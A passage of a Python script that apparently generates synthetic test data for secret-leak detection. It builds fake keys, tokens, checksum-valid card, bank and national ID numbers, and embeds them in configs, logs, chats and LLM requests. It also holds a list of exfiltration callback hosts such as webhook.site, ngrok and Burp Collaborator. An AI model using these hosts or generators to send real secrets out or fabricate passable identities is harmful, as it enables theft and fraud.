        return sshstr(n.to_bytes((n.bit_length() + 8) // 8, "big"))
    pub = sshstr("ssh-rsa") + mp(k["e"]) + mp(k["n"])
    priv = mp(k["d"]) + mp(k["p"]) + mp(k["q"]) + mp(k["qi"])
    pl = wrap(b64(pub), 64).split("\n")
    vl = wrap(b64(priv), 64).split("\n")
    return ("PuTTY-User-Key-File-2: ssh-rsa\r\nEncryption: none\r\nComment: %s\r\nPublic-Lines: %d\r\n%s\r\n"
            "Private-Lines: %d\r\n%s\r\nPrivate-MAC: %s\r\n" % (comment, len(pl), "\r\n".join(pl), len(vl),
                                                              "\r\n".join(vl), rhex(40)))


def wif(compressed=True, testnet=False):
    raw = bytes([0xEF if testnet else 0x80]) + rb(32) + (b"\x01" if compressed else b"")
    return b58check(raw)


def xkey(private=True, testnet=False):
    if private:
        ver = bytes.fromhex("04358394" if testnet else "0488ade4")
        key = b"\x00" + rb(32)
    else:
        ver = bytes.fromhex("043587cf" if testnet else "0488b21e")
        key = bytes([pick([2, 3])]) + rb(32)
    depth = pick([0, 3, 4])
    fp = b"\0\0\0\0" if depth == 0 else rb(4)
    child = b"\0\0\0\0" if depth == 0 else struct.pack(">I", pick([0, 1, 0x80000000, 0x8000002C]))
    return b58check(ver + bytes([depth]) + fp + child + rb(32) + key)


def btc_bech32_addr():
    return bech32("bc", [0] + convertbits(rb(20), 8, 5))


def btc_legacy_addr():
    return b58check(b"\x00" + rb(20))


def eth_addr():
    h = rhex(40)
    # EIP-55-like mixed case (not a real keccak checksum; only cosmetic)
    return "0x" + "".join(c.upper() if c in "abcdef" and chance(0.5) else c for c in h)


def sol_pub():
    return b58(rb(32))


def age_secret():
    return bech32_bytes("age-secret-key-", rb(32)).upper()


def age_public():
    return bech32_bytes("age", rb(32))


def nsec():
    return bech32_bytes("nsec", rb(32))


def npub():
    return bech32_bytes("npub", rb(32))


# ---------------------------------------------------------------- JWT helpers
def jwt(payload, alg="HS256", kid=None, sig=None):
    hdr = {"alg": alg, "typ": "JWT"}
    if kid:
        hdr["kid"] = kid
    if sig is None:
        sig = rb(32 if alg.startswith("HS") else (64 if alg.startswith("ES") else 256))
    return b64u(jdump(hdr)) + "." + b64u(jdump(payload)) + "." + b64u(sig)


FIRST = ["anna", "lukas", "maria", "jonas", "sofia", "mateo", "yuki", "chen", "amir", "olga", "kofi", "ines",
         "noah", "leila", "pierre", "giulia", "sven", "aylin", "rahul", "emma", "diego", "hana", "tomasz", "freya"]
LAST = ["schmidt", "garcia", "rossi", "tanaka", "nowak", "dubois", "kim", "okafor", "silva", "jensen", "novak",
        "murphy", "kowalski", "moreau", "ivanova", "haddad", "lindqvist", "patel", "yilmaz", "van-dijk", "costa"]
WORDS = ["river", "orbit", "maple", "copper", "lantern", "falcon", "meadow", "quartz", "harbor", "velvet",
         "cinder", "pepper", "summit", "willow", "ember", "glacier", "tundra", "cobalt", "saffron", "nimbus",
         "otter", "juniper", "basalt", "thistle", "marble", "zephyr", "canyon", "hazel", "pixel", "raven"]
ORGS = ["acme", "northwind", "contoso", "globex", "initech", "umbrella", "hooli", "vandelay", "stark", "wayne",
        "tyrell", "cyberdyne", "wonka", "oscorp", "soylent", "pied-piper", "aperture", "massive-dynamic"]
SVC = ["billing", "checkout", "ingest", "auth", "search", "reports", "notifier", "scheduler", "gateway",
       "inventory", "ledger", "media", "analytics", "crm-sync", "exporter", "payments", "webhooks"]
TLDS = ["com", "io", "dev", "net", "co", "app", "cloud", "tech"]


def person():
    return pick(FIRST), pick(LAST)


def email():
    f, l = person()
    return "%s.%s@%s.%s" % (f, l.replace("-", ""), pick(ORGS), pick(TLDS))


def domain():
    return "%s.%s" % (pick(ORGS), pick(TLDS))


def host():
    return "%s.%s" % (pick(["api", "app", "internal", "db", "svc", "prod", "staging", "eu", "us-east"]), domain())


def rpassword():
    k = rint(0, 5)
    if k == 0:
        return pick(WORDS).capitalize() + str(rint(10, 9999)) + pick("!@#$%&*?")
    if k == 1:
        return rs(rint(14, 24), AN + "!@#%^*-_+=")
    if k == 2:
        return "-".join(pick(WORDS) for _ in range(4)) + str(rint(1, 99))
    if k == 3:
        return rs(rint(10, 16), AN)
    if k == 4:
        return pick(WORDS).capitalize() + pick("!.#") + pick(WORDS) + str(rint(100, 999))
    return rs(4, UP) + rs(4, DG) + rs(4, LO) + pick("$%&") + rs(3, AN)


def ruser():
    f, l = person()
    return pick([f, f + "." + l, f[0] + l, "svc_" + pick(SVC).replace("-", "_"), "admin", "deploy", "app_rw", "root"])

# ---------------------------------------------------------------- personal / financial data
def card(brand=None):
    brand = brand or pick(["visa", "visa", "mc", "mc2", "amex", "discover", "jcb", "diners", "unionpay", "maestro"])
    if brand == "visa":
        n = luhn_num("4" + rs(5, DG), pick([16, 16, 16, 19]))
    elif brand == "mc":
        n = luhn_num("5" + pick("12345") + rs(4, DG), 16)
    elif brand == "mc2":
        n = luhn_num(str(rint(2221, 2720)) + rs(2, DG), 16)
    elif brand == "amex":
        n = luhn_num(pick(["34", "37"]) + rs(4, DG), 15)
    elif brand == "discover":
        n = luhn_num(pick(["6011", "65" + rs(2, DG)]) + rs(2, DG), 16)
    elif brand == "jcb":
        n = luhn_num(str(rint(3528, 3589)) + rs(2, DG), 16)
    elif brand == "diners":
        n = luhn_num("36" + rs(4, DG), 14)
    elif brand == "unionpay":
        n = luhn_num("62" + rs(4, DG), pick([16, 19]))
    else:
        n = luhn_num(pick(["6759", "5018", "6304"]) + rs(2, DG), pick([16, 18]))
    assert luhn_ok(n)
    return n


def card_fmt(n):
    k = rint(0, 3)
    if k == 0:
        return n
    sep = pick([" ", "-", " "])
    if len(n) == 15:
        return sep.join([n[:4], n[4:10], n[10:]])
    if len(n) == 14:
        return sep.join([n[:4], n[4:10], n[10:]])
    return sep.join(n[i:i + 4] for i in range(0, len(n), 4))


def expiry():
    return "%02d/%02d" % (rint(1, 12), rint(26, 31))


def iban(cc=None):
    cc = cc or pick(["DE", "GB", "FR", "ES", "IT", "NL", "BE", "CH", "AT", "PL", "SE", "NO", "IE", "PT", "DK", "FI"])
    if cc == "DE":
        bban = rs(8, DG) + rs(10, DG)
    elif cc == "GB":
        bban = pick(["NWBK", "BARC", "LOYD", "HBUK", "MIDL"]) + rs(6, DG) + rs(8, DG)
    elif cc == "IE":
        bban = pick(["AIBK", "BOFI"]) + rs(6, DG) + rs(8, DG)
    elif cc == "FR":
        bank, guichet, compte = rs(5, DG), rs(5, DG), rs(11, DG)
        key = 97 - ((89 * int(bank) + 15 * int(guichet) + 3 * int(compte)) % 97)
        bban = bank + guichet + compte + "%02d" % key
    elif cc == "ES":
        bank, branch, acct = rs(4, DG), rs(4, DG), rs(10, DG)
        w = [1, 2, 4, 8, 5, 10, 9, 7, 3, 6]

        def ctl(ds):
            v = 11 - sum(int(a) * b for a, b in zip(ds, w)) % 11
            return {11: 0, 10: 1}.get(v, v)
        bban = bank + branch + str(ctl("00" + bank + branch)) + str(ctl(acct)) + acct
    elif cc == "IT":
        bban = pick(UP) + rs(5, DG) + rs(5, DG) + rs(12, DG)
    elif cc == "NL":
        bban = pick(["ABNA", "INGB", "RABO", "TRIO", "SNSB", "KNAB"]) + rs(10, DG)
    elif cc == "BE":
        n10 = rs(10, DG)
        c = int(n10) % 97 or 97
        bban = n10 + "%02d" % c
    elif cc == "CH":
        bban = rs(5, DG) + rs(12, DG)
    elif cc == "AT":
        bban = rs(16, DG)
    elif cc == "PL":
        bban = rs(24, DG)
    elif cc == "SE":
        bban = rs(20, DG)
    elif cc == "PT":
        bban = rs(21, DG)
    elif cc == "DK":
        bban = rs(14, DG)
    elif cc == "FI":
        bban = rs(14, DG)
    else:  # NO
        while True:
            d = rs(10, DG)
            s = sum(int(a) * b for a, b in zip(d, [5, 4, 3, 2, 7, 6, 5, 4, 3, 2]))
            c = 11 - s % 11
            if c == 11:
                c = 0
            if c != 10:
                break
        bban = d + str(c)
    return iban_make(cc, bban)


def iban_fmt(ib):
    return " ".join(ib[i:i + 4] for i in range(0, len(ib), 4)) if chance(0.5) else ib


def ssn_us():
    while True:
        a = rint(1, 899)
        if a != 666:
            break
    return "%03d-%02d-%04d" % (a, rint(1, 99), rint(1, 9999))


def nino_uk():
    while True:
        p = pick("ABCEGHJKLMNOPRSTWXYZ") + pick("ABCEGHJKLMNPRSTWXYZ")
        if p not in ("BG", "GB", "NK", "KN", "TN", "NT", "ZZ"):
            break
    d = rs(6, DG)
    return "%s %s %s %s %s" % (p, d[:2], d[2:4], d[4:], pick("ABCD"))


def sin_ca():
    n = luhn_num(pick("1234567") + rs(1, DG), 9)
    return "%s %s %s" % (n[:3], n[3:6], n[6:])


def nir_fr():
    while True:
        dept = "%02d" % rint(1, 95)
        if dept != "20":
            break
    base = pick("12") + "%02d" % rint(50, 99) + "%02d" % rint(1, 12) + dept + "%03d" % rint(1, 990) + "%03d" % rint(1, 999)
    key = 97 - int(base) % 97
    return "%s %s %s %s %s %s %02d" % (base[0], base[1:3], base[3:5], base[5:7], base[7:10], base[10:13], key)


def steuerid_de():
    while True:
        digs = list(DG)
        R.shuffle(digs)
        nine = digs[:9]
        dup = pick(nine)
        ten = nine + [dup]
        R.shuffle(ten)
        if ten[0] != "0":
            break
    product = 10
    for ch in ten:
        s = (int(ch) + product) % 10
        if s == 0:
            s = 10
        product = (s * 2) % 11
    c = 11 - product
    if c == 10:
        c = 0
    n = "".join(ten) + str(c)
    return "%s %s %s %s" % (n[:2], n[2:5], n[5:8], n[8:])


def dni_es():
    n = rint(10000000, 99999999)
    return "%08d%s" % (n, "TRWAGMYFPDXBNJZSQVHLCKE"[n % 23])


def nie_es():
    p = rint(0, 2)
    n = rint(1000000, 9999999)
    return "%s%07d%s" % ("XYZ"[p], n, "TRWAGMYFPDXBNJZSQVHLCKE"[int("%d%07d" % (p, n)) % 23])


CF_ODD = {"0": 1, "1": 0, "2": 5, "3": 7, "4": 9, "5": 13, "6": 15, "7": 17, "8": 19, "9": 21,
          "A": 1, "B": 0, "C": 5, "D": 7, "E": 9, "F": 13, "G": 15, "H": 17, "I": 19, "J": 21, "K": 2, "L": 4,
          "M": 18, "N": 20, "O": 11, "P": 3, "Q": 6, "R": 8, "S": 12, "T": 14, "U": 16, "V": 10, "W": 22,
          "X": 25, "Y": 24, "Z": 23}


def cf_it():
    cons = "BCDFGHLMNPRSTVZ"
    s = rs(3, cons) + rs(3, cons) + "%02d" % rint(50, 99) + pick("ABCDEHLMPRST")
    day = rint(1, 28) + (40 if chance(0.5) else 0)
    s += "%02d" % day + pick("ABCDEFGHLMF") + rs(3, DG)
    tot = 0
    for i, ch in enumerate(s):
        if i % 2 == 0:
            tot += CF_ODD[ch]
        else:
            tot += int(ch) if ch in DG else ord(ch) - 65
    return s + chr(65 + tot % 26)


def bsn_nl():
    while True:
        d = rs(8, DG)
        if d[0] == "0":
            continue
        s = sum(int(a) * b for a, b in zip(d, [9, 8, 7, 6, 5, 4, 3, 2]))
        last = s % 11
        if last < 10:
            return d + str(last)


def pesel_pl():
    y = rint(50, 99) if chance(0.6) else rint(0, 9)
    m = rint(1, 12) + (20 if y < 20 else 0)
    d = "%02d%02d%02d" % (y, m, rint(1, 28)) + rs(4, DG)
    w = [1, 3, 7, 9, 1, 3, 7, 9, 1, 3]
    c = (10 - sum(int(a) * b for a, b in zip(d, w)) % 10) % 10
    return d + str(c)


def pnr_se():
    d = "%02d%02d%02d" % (rint(40, 99), rint(1, 12), rint(1, 28)) + rs(3, DG)
    n = d + luhn_digit(d)
    return n[:6] + "-" + n[6:]


def hetu_fi():
    dd, mm, yy = rint(1, 28), rint(1, 12), rint(0, 99)
    century = pick("-A")
    nnn = rint(2, 899)
    v = int("%02d%02d%02d%03d" % (dd, mm, yy, nnn))
    return "%02d%02d%02d%s%03d%s" % (dd, mm, yy, century, nnn, "0123456789ABCDEFHJKLMNPRSTUVWXY"[v % 31])


def aadhaar_in():
    b = pick("23456789") + rs(10, DG)
    n = b + verhoeff_digit(b)
    assert verhoeff_ok(n)
    return "%s %s %s" % (n[:4], n[4:8], n[8:])


def cpf_br():
    while True:
        d = [int(c) for c in rs(9, DG)]
        if len(set(d)) > 1:
            break
    d1 = (sum(a * b for a, b in zip(d, range(10, 1, -1))) * 10 % 11) % 10
    d.append(d1)
    d2 = (sum(a * b for a, b in zip(d, range(11, 1, -1))) * 10 % 11) % 10
    d.append(d2)
    s = "".join(map(str, d))
    return "%s.%s.%s-%s" % (s[:3], s[3:6], s[6:9], s[9:])


def cnid():
    area = pick(["110105", "310104", "440305", "510107", "330106", "420111", "320102", "610113"])
    b = area + "%04d%02d%02d" % (rint(1960, 2004), rint(1, 12), rint(1, 28)) + rs(3, DG)
    w = [7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2]
    return b + "10X98765432"[sum(int(a) * c for a, c in zip(b, w)) % 11]


def rrn_kr():
    y = rint(60, 99)
    g = pick("12")
    b = "%02d%02d%02d" % (y, rint(1, 12), rint(1, 28)) + g + rs(5, DG)
    w = [2, 3, 4, 5, 6, 7, 8, 9, 2, 3, 4, 5]
    c = (11 - sum(int(a) * c for a, c in zip(b, w)) % 11) % 10
    return b[:6] + "-" + b[6:] + str(c)


def mynumber_jp():
    b = rs(11, DG)
    tot = 0
    for n in range(1, 12):
        p = int(b[11 - n])
        q = n + 1 if n <= 6 else n - 5
        tot += p * q
    r = tot % 11
    c = 0 if r <= 1 else 11 - r
    s = b + str(c)
    return "%s %s %s" % (s[:4], s[4:8], s[8:])


def tfn_au():
    w = [1, 4, 3, 7, 5, 8, 6, 9, 10]
    while True:
        d = rs(8, DG)
        s = sum(int(a) * b for a, b in zip(d, w))
        last = (-s * 10) % 11
        if last < 10:
            n = d + str(last)
            assert sum(int(a) * b for a, b in zip(n, w)) % 11 == 0
            return "%s %s %s" % (n[:3], n[3:6], n[6:])


def nric_sg():
    p = pick("ST")
    d = rs(7, DG)
    tot = sum(int(a) * b for a, b in zip(d, [2, 7, 6, 5, 4, 3, 2])) + (4 if p == "T" else 0)
    return p + d + "JZIHGFEDCBA"[tot % 11]


def said_za():
    b = "%02d%02d%02d" % (rint(60, 99), rint(1, 12), rint(1, 28)) + rs(4, DG) + "08"
    return b + luhn_digit(b)


def nhs_uk():
    while True:
        d = rs(9, DG)
        r = sum(int(a) * b for a, b in zip(d, range(10, 1, -1))) % 11
        c = 11 - r
        if c == 11:
            c = 0
        if c != 10:
            n = d + str(c)
            return "%s %s %s" % (n[:3], n[3:6], n[6:])


def aba_routing():
    while True:
        d = "%02d" % pick(list(range(1, 13)) + list(range(21, 33))) + rs(6, DG)
        for c in DG:
            n = d + c
            v = 3 * (int(n[0]) + int(n[3]) + int(n[6])) + 7 * (int(n[1]) + int(n[4]) + int(n[7])) + \
                (int(n[2]) + int(n[5]) + int(n[8]))
            if v % 10 == 0:
                return n


def mrz_check(s):
    tot = 0
    for i, ch in enumerate(s):
        if ch == "<":
            v = 0
        elif ch in DG:
            v = int(ch)
        else:
            v = ord(ch) - 55
        tot += v * [7, 3, 1][i % 3]
    return str(tot % 10)


def mrz_td3():
    f, l = person()
    nat = pick(["DEU", "FRA", "NLD", "GBR", "USA", "CAN", "ITA", "ESP", "SWE", "POL"])
    l1 = ("P<" + nat + l.upper().replace("-", "<") + "<<" + f.upper()).ljust(44, "<")[:44]
    pno = rs(2, UP) + rs(7, DG) if chance(0.5) else rs(9, UN)
    dob = "%02d%02d%02d" % (rint(55, 99), rint(1, 12), rint(1, 28))
    exp = "%02d%02d%02d" % (rint(26, 34), rint(1, 12), rint(1, 28))
    pers = "<" * 14
    body = pno + mrz_check(pno) + nat + dob + mrz_check(dob) + pick("MF") + exp + mrz_check(exp) + pers + mrz_check(pers)
    comp = body[0:10] + body[13:20] + body[21:43]
    l2 = body + mrz_check(comp)
    assert len(l2) == 44
    return l1, l2

# ---------------------------------------------------------------- surrounding contexts for key/value secrets
def filler_env():
    pool = [("NODE_ENV", "production"), ("PORT", str(pick([3000, 8000, 8080, 9090]))), ("LOG_LEVEL", pick(["info", "debug", "warn"])),
            ("AWS_REGION", pick(["eu-central-1", "us-east-1", "ap-southeast-2"])), ("TZ", "UTC"),
            ("APP_NAME", pick(SVC)), ("FEATURE_FLAGS", "beta,dark-mode"), ("SENTRY_ENVIRONMENT", pick(["staging", "prod"])),
            ("DATABASE_POOL", str(rint(5, 40))), ("CACHE_TTL", str(pick([60, 300, 3600]))), ("PUBLIC_URL", "https://" + host()),
            ("WORKERS", str(rint(2, 16))), ("RETRY_LIMIT", str(rint(1, 9)))]
    R.shuffle(pool)
    return pool[:rint(2, 5)]


def camel(name):
    parts = name.lower().split("_")
    return parts[0] + "".join(p.capitalize() for p in parts[1:])


def snake(name):
    return name.lower()


def mix_env(pairs):
    f = filler_env()
    out = list(f[:len(f) // 2]) + list(pairs) + list(f[len(f) // 2:])
    return out


def c_env(pairs):
    lines = ["# %s - %s" % (pick(SVC), pick(["local overrides", "do not commit", "generated", "prod"]))]
    for k, v in mix_env(pairs):
        lines.append("%s=%s" % (k, v) if chance(0.7) or " " in v else '%s="%s"' % (k, v))
    return "\n".join(lines) + "\n", pick(["text/plain", "application/octet-stream", None])


def c_json(pairs):
    d = {"service": pick(SVC), "region": pick(["eu-west-1", "us-east-2", "westeurope"]), "version": "%d.%d.%d" % (rint(0, 4), rint(0, 20), rint(0, 9))}
    d[pick(["credentials", "auth", "secrets", "integration", "config"])] = {camel(k): v for k, v in pairs}
    d["retries"] = rint(1, 5)
    return jdump(d, indent=pick([None, 2])), "application/json"


def c_yaml(pairs):
    lines = ["%s:" % pick(SVC).replace("-", "_"), "  enabled: true", "  endpoint: https://%s/v%d" % (host(), rint(1, 3))]
    for k, v in pairs:
        lines.append("  %s: %s" % (snake(k), v if chance(0.5) and not v[:1] in "&*!%@`" and ": " not in v else '"%s"' % v))
    lines.append("  timeout_seconds: %d" % rint(5, 60))
    return "\n".join(lines) + "\n", pick(["application/yaml", "text/yaml", "text/plain"])


def c_toml(pairs):
    lines = ["[%s]" % pick(SVC).replace("-", "_"), 'url = "https://%s"' % host()]
    for k, v in pairs:
        lines.append('%s = "%s"' % (snake(k), v.replace("\\", "\\\\")))
    lines.append("max_connections = %d" % rint(4, 64))
    return "\n".join(lines) + "\n", pick(["application/toml", "text/plain"])


def c_shell(pairs):
    lines = ["$ cd ~/src/%s" % pick(SVC)]
    for k, v in pairs:
        lines.append("$ export %s='%s'" % (k, v))
    lines.append("$ ./scripts/%s.sh --env %s" % (pick(["deploy", "smoke-test", "migrate", "sync"]), pick(["prod", "staging"])))
    lines.append(pick(["error: upstream returned 403 Forbidden", "deploying revision %s ... done" % rhex(7),
                       "Traceback (most recent call last):\n  File \"sync.py\", line %d, in <module>\nRuntimeError: auth failed" % rint(10, 300)]))
    return "\n".join(lines) + "\n", "text/plain"


def c_python(pairs):
    lines = ["import os", "import requests", ""]
    for k, v in pairs:
        lines.append('%s = os.environ.get("%s", "%s")' % (k, k, v))
    lines += ["", "def fetch(path):", '    r = requests.get("https://%s" + path, headers={"Authorization": f"Bearer {%s}"}, timeout=10)' % (host(), pairs[-1][0]),
              "    r.raise_for_status()", "    return r.json()"]
    return "\n".join(lines) + "\n", pick(["text/x-python", "text/plain"])


def c_js(pairs):
    lines = ["// %s client" % pick(SVC), "const config = {"]
    for k, v in pairs:
        lines.append("  %s: '%s'," % (camel(k), v.replace("'", "\\'")))
    lines += ["  timeout: %d," % (rint(1, 30) * 1000), "};", "", "module.exports = config;"]
    return "\n".join(lines) + "\n", pick(["application/javascript", "text/javascript"])


def c_go(pairs):
    lines = ["package config", "", "const ("]
    for k, v in pairs:
        lines.append('\t%s = "%s"' % (camel(k)[0].upper() + camel(k)[1:], v.replace('"', '\\"')))
    lines += [")", ""]
    return "\n".join(lines), "text/x-go"


def c_diff(pairs):
    fn = pick(["config/settings.py", "src/config.ts", "deploy/values.yaml", ".env.production", "app/config.rb"])
    lines = ["diff --git a/%s b/%s" % (fn, fn), "index %s..%s 100644" % (rhex(7), rhex(7)), "--- a/%s" % fn, "+++ b/%s" % fn,
             "@@ -%d,6 +%d,%d @@" % (rint(1, 80), rint(1, 80), 6 + len(pairs)), " # integration settings", " TIMEOUT = 30"]
    for k, v in pairs:
        lines.append('+%s = "%s"' % (k, v))
    lines.append(" RETRIES = 3")
    return "\n".join(lines) + "\n", pick(["text/x-diff", "text/plain"])


PROSE = {
    "en": ["Hey, the deploy keeps failing with 401. This is what I have configured:\n{v}\nCan you check whether it is still valid?",
           "For the record, these are the creds the vendor sent over this morning:\n{v}\nPlease move them to the vault later.",
           "quick note from the on-call: rotated nothing yet, current values are\n{v}"],
    "de": ["Hallo, kannst du kurz prüfen, ob das hier noch gültig ist?\n{v}\nDanke dir!", "Zugangsdaten für die Staging-Umgebung:\n{v}\nBitte nicht weitergeben."],
    "fr": ["Salut, voici ce qu'on utilise en prod :\n{v}\nTu peux le mettre dans le coffre-fort ?", "Les identifiants du prestataire :\n{v}"],
    "es": ["Oye, te paso esto para que pruebes el endpoint:\n{v}\nAvísame si falla.", "Credenciales del entorno de pruebas:\n{v}"],
    "pt": ["Segue o que o cliente mandou:\n{v}\n(não compartilhe fora do time)"],
    "it": ["Ciao, ecco i dati per l'integrazione:\n{v}\nfammi sapere se funzionano."],
    "ja": ["本番の設定はこれです:\n{v}\n後でローテーションします。"],
    "zh": ["这是生产环境的配置：\n{v}\n请尽快配置到服务器上。"],
    "ru": ["Вот доступы для стенда:\n{v}\nНе забудь потом удалить сообщение."],
    "pl": ["Cześć, tu są dane do API:\n{v}\nDzięki!"],
    "tr": ["Merhaba, entegrasyon bilgileri şunlar:\n{v}\nLütfen kimseyle paylaşma."],
    "nl": ["Hoi, hier zijn de gegevens voor de koppeling:\n{v}"],
    "ko": ["운영 서버 설정 공유드립니다:\n{v}\n확인 부탁드립니다."],
}


def prose(v):
    lang = pick(list(PROSE))
    return pick(PROSE[lang]).replace("{v}", v)


def kvlines(pairs):
    return "\n".join("%s=%s" % (k, v) for k, v in pairs)


def c_chat(pairs):
    txt = prose(kvlines(pairs) if len(pairs) > 1 or chance(0.5) else pairs[0][1])
    k = rint(0, 3)
    if k == 0:
        return jdump({"channel": "C" + rs(10, UN), "text": txt, "unfurl_links": False}), "application/json"
    if k == 1:
        return jdump({"content": txt, "tts": False}), "application/json"
    if k == 2:
        return jdump({"body": txt}), "application/json"
    return txt, "text/plain; charset=utf-8"


LLM_MODELS_OAI = ["gpt-4o", "gpt-4.1-mini", "o3-mini", "gpt-4o-2024-08-06"]
LLM_MODELS_ANT = ["claude-3-5-sonnet-20241022", "claude-sonnet-4-20250514", "claude-3-haiku-20240307"]


def c_llm(pairs):
    dump = pick(["$ cat .env\n", "Contents of config/secrets.yml:\n", "Output of `printenv`:\n", "tool output (read_file):\n"]) + kvlines(mix_env(pairs))
    ask = pick(["Why does my service fail to authenticate? Here is the environment.", "Please convert this to a Kubernetes secret manifest.",
                "Summarise what each variable does.", "Can you write a docker-compose file that uses these values?"])
    k = rint(0, 2)
    if k == 0:
        body = {"model": pick(LLM_MODELS_OAI), "temperature": 0.2,
                "messages": [{"role": "system", "content": "You are a helpful coding assistant."},
                             {"role": "user", "content": ask + "\n\n```\n" + dump + "\n```"}]}
    elif k == 1:
        tid = "toolu_" + rs(24)
        body = {"model": pick(LLM_MODELS_ANT), "max_tokens": pick([1024, 4096]),
                "messages": [{"role": "user", "content": ask},
                             {"role": "assistant", "content": [{"type": "tool_use", "id": tid, "name": "bash", "input": {"command": "cat .env"}}]},
                             {"role": "user", "content": [{"type": "tool_result", "tool_use_id": tid, "content": dump}]}]}
    else:
        body = {"contents": [{"role": "user", "parts": [{"text": ask}, {"text": dump}]}],
                "generationConfig": {"temperature": 0.1, "maxOutputTokens": 2048}}
    return jdump(body), "application/json"


def c_log(pairs):
    lines = []
    for _ in range(rint(1, 3)):
        lines.append("%s INFO  [%s] request id=%s status=200 dur=%dms" % (rts(), pick(SVC), ruuid(), rint(3, 900)))
    lines.append("%s DEBUG [%s] loaded configuration: %s" % (rts(), pick(SVC), ", ".join("%s=%s" % (k, v) for k, v in pairs)))
    lines.append("%s WARN  [%s] upstream slow, retrying (attempt %d)" % (rts(), pick(SVC), rint(1, 4)))
    txt = "\n".join(lines) + "\n"
    if chance(0.5):
        return jdump({"streams": [{"stream": {"app": pick(SVC), "level": "debug"}, "values": [[str(repoch()) + "000000000", l] for l in lines]}]}), "application/json"
    return txt, "text/plain"


def c_form(pairs):
    items = [("action", pick(["save", "update", "test_connection"])), ("integration", pick(SVC))]
    items += [(snake(k), v) for k, v in pairs]
    items.append(("submit", pick(["Save", "Test"])))
    return qs(items), "application/x-www-form-urlencoded"


def c_dockerfile(pairs):
    lines = ["FROM %s" % pick(["python:3.12-slim", "node:20-alpine", "golang:1.22", "eclipse-temurin:21-jre"]), "WORKDIR /app", "COPY . ."]
    for k, v in pairs:
        lines.append("ENV %s=%s" % (k, v))
    lines += ["RUN %s" % pick(["pip install -r requirements.txt", "npm ci --omit=dev", "go build -o /bin/app ./cmd/app"]), 'CMD ["/bin/sh", "-c", "./start.sh"]']
    return "\n".join(lines) + "\n", "text/plain"


def c_gha(pairs):
    lines = ["name: deploy", "on:", "  push:", "    branches: [main]", "jobs:", "  deploy:", "    runs-on: ubuntu-latest", "    env:"]
    for k, v in pairs:
        lines.append("      %s: %s" % (k, v))
    lines += ["    steps:", "      - uses: actions/checkout@v4", "      - run: make deploy"]
    return "\n".join(lines) + "\n", "application/yaml"


def c_notebook(pairs):
    src = ["import os\n"] + ['os.environ["%s"] = "%s"\n' % (k, v) for k, v in pairs] + ["client = make_client()\n"]
    nb = {"cells": [{"cell_type": "markdown", "metadata": {}, "source": ["# Exploration\n"]},
                    {"cell_type": "code", "execution_count": rint(1, 40), "metadata": {}, "outputs": [], "source": src}],
          "metadata": {"kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"}}, "nbformat": 4, "nbformat_minor": 5}
    return jdump(nb, indent=1), "application/x-ipynb+json"


def c_tf(pairs):
    lines = ['provider "%s" {' % pick(["aws", "datadog", "github", "cloudflare", "vault"])]
    for k, v in pairs:
        lines.append('  %s = "%s"' % (snake(k), v))
    lines += ["}", "", 'resource "null_resource" "noop" {}']
    return "\n".join(lines) + "\n", "text/plain"


def c_xml(pairs):
    lines = ['<?xml version="1.0" encoding="utf-8"?>', "<configuration>", "  <appSettings>"]
    for k, v in pairs:
        lines.append('    <add key="%s" value="%s" />' % (camel(k)[0].upper() + camel(k)[1:], v.replace("&", "&amp;").replace('"', "&quot;")))
    lines += ['    <add key="Environment" value="Production" />', "  </appSettings>", "</configuration>"]
    return "\n".join(lines) + "\n", pick(["application/xml", "text/xml"])


def c_crash(pairs):
    ev = {"event_id": rhex(32), "timestamp": rts(), "platform": "python", "level": "error",
          "exception": {"values": [{"type": "AuthenticationError", "value": "invalid credentials"}]},
          "extra": {"environ": dict(mix_env(pairs))}, "tags": {"release": rhex(12)}}
    return jdump(ev), "application/json"


def c_issue(pairs):
    body = "%s\n\n```\n%s\n```\n\n%s" % (pick(["Steps to reproduce:", "I'm seeing this on the latest version.", "Config used:"]),
                                         kvlines(pairs), pick(["Any idea?", "Thanks in advance!", "Happens every time."]))
    return jdump({"title": pick(["Auth fails after upgrade", "Webhook never fires", "401 from API"]), "body": body,
                  "labels": ["bug"]}), "application/json"


def c_compose(pairs):
    lines = ["services:", "  %s:" % pick(SVC), "    image: %s/%s:%s" % (pick(ORGS), pick(SVC), pick(["latest", "1.4.2", "main"])), "    environment:"]
    for k, v in pairs:
        lines.append("      - %s=%s" % (k, v))
    lines += ["    ports:", '      - "%d:%d"' % (rint(3000, 9000), rint(3000, 9000))]
    return "\n".join(lines) + "\n", "application/yaml"


def c_configmap(pairs):
    lines = ["apiVersion: v1", "kind: ConfigMap", "metadata:", "  name: %s-config" % pick(SVC), "  namespace: %s" % pick(["default", "prod", "payments"]), "data:"]
    for k, v in pairs:
        lines.append('  %s: "%s"' % (k, v))
    return "\n".join(lines) + "\n", "application/yaml"


def c_properties(pairs):
    lines = ["# application.properties", "server.port=8080", "spring.application.name=%s" % pick(SVC)]
    for k, v in pairs:
        lines.append("%s.%s=%s" % (pick(SVC).replace("-", ""), camel(k), v))
    return "\n".join(lines) + "\n", "text/plain"


def c_csv(pairs):
    lines = ["name,value,owner,updated"]
    for k, v in pairs:
        lines.append('%s,"%s",%s,%s' % (k, v.replace('"', '""'), email(), rdate()))
    return "\n".join(lines) + "\n", "text/csv"


def c_ini(pairs):
    lines = ["[%s]" % pick(SVC)]
    for k, v in pairs:
        lines.append("%s = %s" % (snake(k), v))
    return "\n".join(lines) + "\n", "text/plain"


BODY_CTX = [c_env, c_json, c_yaml, c_toml, c_shell, c_python, c_js, c_go, c_diff, c_chat, c_llm, c_log, c_form,
            c_dockerfile, c_gha, c_notebook, c_tf, c_xml, c_crash, c_issue, c_compose, c_configmap, c_properties, c_csv, c_ini]

EXFIL_HOSTS = [lambda: "webhook.site", lambda: "%s.m.pipedream.net" % rs(15, LN), lambda: "%s.ngrok-free.app" % rs(12, LN),
               lambda: "%s.oast.fun" % rs(20, LN), lambda: "%s.burpcollaborator.net" % rs(30, LN),
               lambda: "%s-%s-%s.trycloudflare.com" % (pick(WORDS), pick(WORDS), pick(WORDS)),
               lambda: "hooks.%s" % domain(), lambda: "telemetry.%s" % domain(), lambda: "cdn-%s.%s" % (rs(5, LN), domain()),
               lambda: "%s.requestcatcher.com" % pick(WORDS), lambda: "api.%s" % domain(), lambda: "collector.%s" % domain()]


def xhost():
    return pick(EXFIL_HOSTS)()


def url_with(param_pairs, path=None):
